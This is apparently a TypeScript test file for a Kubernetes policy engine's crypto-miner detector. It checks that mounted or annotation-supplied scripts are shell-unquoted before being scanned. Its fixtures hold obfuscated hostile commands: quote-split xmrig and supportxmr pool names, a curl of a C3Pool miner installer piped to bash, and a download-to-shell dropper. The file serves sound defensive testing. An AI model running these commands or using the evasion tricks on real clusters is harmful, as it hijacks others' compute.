// A script mounted from a ConfigMap and run by the container (`sh /scripts/run.sh`) is read the
// way the shell reads it, like a `sh -c` argument: quotes and backslashes removed (`x''mrig`,
// `raw.githubusercontent"."com`), and `$A$B` joined from env values before that. A ConfigMap file
// the container never runs stays data: its quotes are kept and it is read for a miner config only.
import t from 'tap'
import { podEnvironment } from '../../src/detect/container-sources.ts'
import { containerTexts } from '../../src/detect/container-text.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
import { defaultPolicies } from '../helpers/server.ts'

const policySet = await defaultPolicies()

const env = [
  { name: 'A', value: 'supp' },
  { name: 'B', value: 'ortxmr' },
  { name: 'M', value: 'mri' },
]

function configMap(data: Record<string, string>): KubeObject {
  return { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: 'shop' }, data }
}

function pod(container: Partial<V1Container>) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'worker', namespace: 'shop' },
    spec: {
      containers: [{ name: 'worker', image: 'debian:12-slim', env, volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }], ...container }],
      volumes: [{ name: 'scripts', configMap: { name: 'boot', defaultMode: 0o755 } }],
    },
  }
}

/** miner-signals' answer for the pod, with the ConfigMap in the same review (`jackstop check` reads both). */
function verdicts(container: Partial<V1Container>, data: Record<string, string>): { action: string; message: string }[] {
  return evaluate({ object: pod(container), related: [configMap(data)] }, policySet)
    .findings.filter((finding) => finding.policy === 'miner-signals')
    .map(({ action, message }) => ({ action, message }))
}

const hidden: Record<string, { script: string; sign: RegExp }> = {
  'xmrig behind quotes': { script: `exec /opt/bin/x''mrig --donate-level 1`, sign: /miner program "xmrig"/ },
  'a pool behind quotes': { script: `exec /opt/svc -o pool.supp''ortxmr.com -u worker1`, sign: /mining pool "pool\.supportxmr\.com"/ },
  'an installer host behind a quoted dot': {
    script: `curl -sL https://raw.githubusercontent"."com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s worker1`,
    sign: /downloads a miner installer/,
  },
  'a dropper whose downloader and shell are quoted': { script: `c''url -s http://203.0.113.9/x | s''h`, sign: /download piped to a shell/ },
  'a pool joined from env values inside quotes': { script: `exec /opt/svc -o pool."$A$B".com -u worker1`, sign: /mining pool "pool\.supportxmr\.com"/ },
  'xmrig joined from an env value inside quotes': { script: `exec /opt/bin/x"$M"g --donate-level 1`, sign: /miner program "xmrig"/ },
}

t.test('a mounted script the container runs with sh hides nothing behind quotes or $A$B joins', async (t) => {
  for (const [name, { script, sign }] of Object.entries(hidden)) {
    const found = verdicts({ command: ['sh', '/scripts/run.sh'] }, { 'run.sh': `#!/bin/sh\nset -e\n${script}\n` })
    t.equal(found[0]?.action, 'deny', `${name}: ${JSON.stringify(found)}`)
    t.match(found[0]?.message, sign, name)
  }
})

t.test('a mounted script is read as the same script given to sh -c', async (t) => {
  for (const [name, { script }] of Object.entries(hidden)) {
    const mounted = verdicts({ command: ['sh', '/scripts/run.sh'] }, { 'run.sh': script }).map(({ action }) => action)
    const inline = verdicts({ command: ['sh', '-c', script] }, {}).map(({ action }) => action)
    t.same(mounted, inline, name)
  }
})

t.test('every way of running a mounted file reads it unquoted: as the program, sourced, by glob, by directory, from an env value', async (t) => {
  const { script } = hidden['a pool behind quotes'] as { script: string }
  for (const command of [
    ['/scripts/run.sh'],
    ['bash', '-c', '. /scripts/run.sh'],
    ['sh', '-c', 'for f in /scripts/*.sh; do sh "$f"; done'],
    ['run-parts', '/scripts'],
    ['sh', '-c', '"$START"'],
  ]) {
    const found = verdicts({ command, env: [...env, { name: 'START', value: '/scripts/run.sh' }] }, { 'run.sh': `#!/bin/sh\n${script}\n` })
    t.equal(found[0]?.action, 'deny', command.join(' '))
  }
})

t.test('a mounted file the container does not run keeps its quotes and is read for a miner config only', async (t) => {
  const source = [
    '// The detector matches these names once the quotes are gone; none of this runs.',
    `const program = 'x' + 'm' + "rig"`,
    `const pool = "pool.supp" + 'ortxmr.com'`,
    `const sample = "curl -s http://files.example.net/x | s''h"`,
  ].join('\n')
  t.same(verdicts({ command: ['/app/server', '--rules=/scripts'] }, { 'names.js': source }), [])
  const texts = containerTexts(pod({ command: ['/app/server'] }).spec.containers[0] as V1Container, undefined, environmentFor({ 'names.js': source }))
  t.same(
    texts.map(({ field, configOnly }) => ({ field, configOnly })),
    [
      { field: 'env[0].value', configOnly: undefined },
      { field: 'env[1].value', configOnly: undefined },
      { field: 'env[2].value', configOnly: undefined },
      { field: 'command[0]', configOnly: undefined },
      { field: 'volume "scripts" configMap "boot" ["names.js"]', configOnly: true },
    ],
    'no unquoted copy of a file read only for a config',
  )
})

function environmentFor(data: Record<string, string>) {
  const { metadata, spec } = pod({})
  return podEnvironment(metadata, spec, [configMap(data)], 'shop')
}

t.test('an ordinary script with quotes is admitted, and read once more unquoted', async (t) => {
  const script = `#!/bin/sh\necho "starting 'worker' for $A"\nexec /opt/app --name="a b" --level='info' --cache-dir=/var/cache/app\n`
  t.same(verdicts({ command: ['sh', '/scripts/run.sh'] }, { 'run.sh': script }), [])
  const texts = containerTexts(pod({ command: ['sh', '/scripts/run.sh'] }).spec.containers[0] as V1Container, undefined, environmentFor({ 'run.sh': script }))
  t.same(
    texts.map(({ field }) => field).filter((field) => field.startsWith('volume')),
    [
      'volume "scripts" configMap "boot" ["run.sh"]',
      'volume "scripts" configMap "boot" ["run.sh"] (shell-expanded)',
      'volume "scripts" configMap "boot" ["run.sh"] (shell-unquoted)',
      'volume "scripts" configMap "boot" ["run.sh"] (shell-expanded) (shell-unquoted)',
    ],
  )
})

t.test('a script in an annotation that a downwardAPI volume mounts and the container runs is read unquoted too', async (t) => {
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'worker', namespace: 'shop', annotations: { run: `exec /opt/svc -o pool.supp''ortxmr.com -u worker1` } },
    spec: {
      containers: [
        { name: 'worker', image: 'debian:12-slim', command: ['sh', '/etc/podinfo/run'], volumeMounts: [{ name: 'info', mountPath: '/etc/podinfo' }] },
      ],
      volumes: [{ name: 'info', downwardAPI: { items: [{ path: 'run', fieldRef: { fieldPath: "metadata.annotations['run']" } }] } }],
    },
  }
  const found = evaluate({ object }, policySet).findings.filter((finding) => finding.policy === 'miner-signals')
  t.equal(found[0]?.action, 'deny', JSON.stringify(found))
  t.match(found[0]?.message, /\(shell-unquoted\): mining pool "pool\.supportxmr\.com"/)
})
